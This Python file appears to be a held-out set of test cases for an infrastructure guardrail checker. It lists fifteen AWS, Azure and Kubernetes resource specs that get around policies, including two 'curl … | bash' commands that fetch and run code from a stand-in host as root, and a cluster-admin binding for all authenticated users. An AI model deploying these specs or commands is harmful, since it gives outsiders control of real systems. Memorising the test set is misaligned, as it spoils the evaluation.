"""Ways around the guardrails: unseen attacks, written on 2026-11-28 before any of them was evaluated."""

import json

from ..blind import ME, SUB, TAGS, THEM, aws, az, crd
from . import Attack
from .third_residency import release

RG = {"resourceGroupName": "rg-platform"}
AROUND = ("FJ-ESC-", "FJ-IDN-", "FJ-EXP-", "FJ-RES-")
POLICY = f"{SUB}/providers/Microsoft.Authorization/policyAssignments/allowed-locations"
MANIFEST = json.dumps({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {
    "name": "all"}, "roleRef": {"kind": "ClusterRole", "name": "cluster-admin",
                                "apiGroup": "rbac.authorization.k8s.io"}, "subjects": [
    {"kind": "Group", "name": "system:authenticated", "apiGroup": "rbac.authorization.k8s.io"}]})  # fmt: skip

ATTACKS = (
    Attack("Event runs a script from the web on every machine", AROUND, (
        aws("cloudwatch/EventTarget", {"rule": "nightly",
            "arn": "arn:aws:ssm:me-central-1::document/AWS-RunShellScript",
            "roleArn": f"arn:aws:iam::{ME}:role/events", "runCommandTargets": [
                {"key": "tag:project", "values": ["fraud"]}],
            "input": json.dumps({"commands": ["curl -s https://get.stranger.io/x | bash"]})}),), "critical",
        "The command runs as root on each machine (Amazon EventBridge, 'Systems Manager Run Command target')"),
    Attack("Deployment calls a function that creates what it is told", AROUND, (
        aws("lambda/Invocation", {"functionName": "provisioner", "input": json.dumps(
            {"create": "bucket", "where": "elsewhere", "public": True})}),), "major",
        "What the function creates is in no plan (pulumi-aws, lambda.Invocation)"),
    Attack("Registry fills itself from a registry of a stranger", AROUND, (
        aws("ecr/PullThroughCacheRule", {"ecrRepositoryPrefix": "base",
            "upstreamRegistryUrl": f"{THEM}.dkr.ecr.me-central-1.amazonaws.com",
            "customRoleArn": f"arn:aws:iam::{ME}:role/pull"}),), "major",
        "Images of one's own registry are theirs (Amazon ECR, 'Pull through cache', ECR to ECR)"),
    Attack("Webhook builds the code of everybody's pull requests", AROUND, (
        aws("codebuild/Webhook", {"projectName": "deploy", "buildType": "BUILD"}),), "critical",
        "A stranger's code runs with the role of the build (AWS CodeBuild, 'Webhooks', filter groups)"),
    Attack("Quick Setup deploys stacks into the organisation", AROUND, (
        aws("ssm/QuicksetupConfigurationManager", {"name": "mgmt", "tags": TAGS, "configurationDefinition": {
            "type": "AWSQuickSetupType-SSMHostMgmt", "localDeploymentExecutionRoleName": "AWS-QuickSetup-Execution",
            "localDeploymentAdministrationRoleArn": f"arn:aws:iam::{ME}:role/AWS-QuickSetup-Administration",
            "parameters": {"TargetRegions": "me-central-1", "IsPolicyAttachAllowed": "true"}}}),), "major",
        "It attaches policies to the roles of all machines (AWS Systems Manager, 'Quick Setup host management')"),
    Attack("New account of the organisation, with its own administrator role", AROUND, (
        aws("organizations/Account", {"name": "side", "email": "side@example.ae", "roleName": "admin", "tags": TAGS,
                                      "iamUserAccessToBilling": "ALLOW"}),), "critical",
        "No guardrail and no budget of this stack applies there (AWS Organizations, CreateAccount)"),
    Attack("Exemption from Azure's own policy on locations", AROUND, (
        az("authorization:PolicyExemption", {"scope": SUB[1:], "policyExemptionName": "x", "policyAssignmentId": POLICY,
                                             "exemptionCategory": "Waiver"}),), "critical",
        "The policy no longer applies to the subscription (Azure Policy, 'Exemption structure')"),
    Attack("Subscription moves to another management group", AROUND, (
        az("management:ManagementGroupSubscription", {"groupId": "sandbox"}),), "critical",
        "Policies and roles of the old group no longer apply (Azure, 'Manage subscriptions with management groups')"),
    Attack("New subscription whose owner is a stranger", AROUND, (
        az("subscription:Alias", {"aliasName": "side", "properties": {"displayName": "side", "workload": "Production",
            "billingScope": "/billingAccounts/1/enrollmentAccounts/2", "additionalProperties": {
                "subscriptionTenantId": "99999999-9999-9999-9999-999999999999",
                "subscriptionOwnerId": "88888888-8888-8888-8888-888888888888"}}}),), "critical",
        "Its bill is one's own, its control is theirs (Azure Subscription REST API, 'Alias - Create')"),
    Attack("Objects of a cluster in a SyncSet of OpenShift", AROUND, (
        az("redhatopenshift:SyncSet", {**RG, "resourceName": "aro", "childResourceName": "all",
                                       "resources": MANIFEST}),), "critical",
        "The service applies any object to the cluster (Azure Red Hat OpenShift REST API, 'Sync Sets')"),
    Attack("Version of a gallery application that installs from the web", AROUND, (
        az("compute:GalleryApplicationVersion", {**RG, "galleryName": "apps", "galleryApplicationName": "agent",
            "galleryApplicationVersionName": "1.0.0", "location": "uaenorth", "tags": TAGS, "publishingProfile": {
                "source": {"mediaLink": "https://files.stranger.io/agent.zip"},
                "manageActions": {"install": "curl -s https://get.stranger.io/x | bash", "remove": "true"},
                "targetRegions": [{"name": "uaenorth"}]}}),), "critical",
        "Each machine with the application runs it as root (Azure, 'VM Applications')"),
    Attack("Package of a stranger in an automation account", AROUND, (
        az("automation:Python3Package", {**RG, "automationAccountName": "ops", "packageName": "boto9", "tags": TAGS,
            "contentLink": {"uri": "https://files.stranger.io/boto9-1.0-py3-none-any.whl"}}),), "major",
        "Its code runs in every runbook with the account's identity (Azure Automation, 'Manage Python 3 packages')"),
    Attack("Plug-in of a stranger in the proxies of the mesh", AROUND, (
        crd("extensions.istio.io/v1alpha1:WasmPlugin", {"url": "oci://registry.stranger.io/filter:latest",
            "phase": "AUTHN", "selector": {"matchLabels": {"istio": "ingressgateway"}}}),), "critical",
        "It reads and changes every request (Istio, 'Wasm Plugin')"),
    Attack("Exception from the policies of the cluster", AROUND, (
        crd("kyverno.io/v2:PolicyException", {"exceptions": [
            {"policyName": "disallow-privileged-containers", "ruleNames": ["privileged-containers"]}],
            "match": {"any": [{"resources": {"kinds": ["Pod"], "namespaces": ["team-a"]}}]}}),), "major",
        "Privileged pods of the namespace are admitted (Kyverno, 'Policy Exceptions')"),
    Attack("Image of a stranger as Karpenter's controller", AROUND, release(
        "karpenter", "oci://public.ecr.aws/karpenter", "1.8.1", {"controller": {"image": {
            "repository": "docker.io/stranger/karpenter", "tag": "1.8.1", "digest": "sha256:" + "b" * 64}}}),
        "critical", "Its code has the role that starts machines and passes roles (Karpenter, chart values)"),
)  # fmt: skip
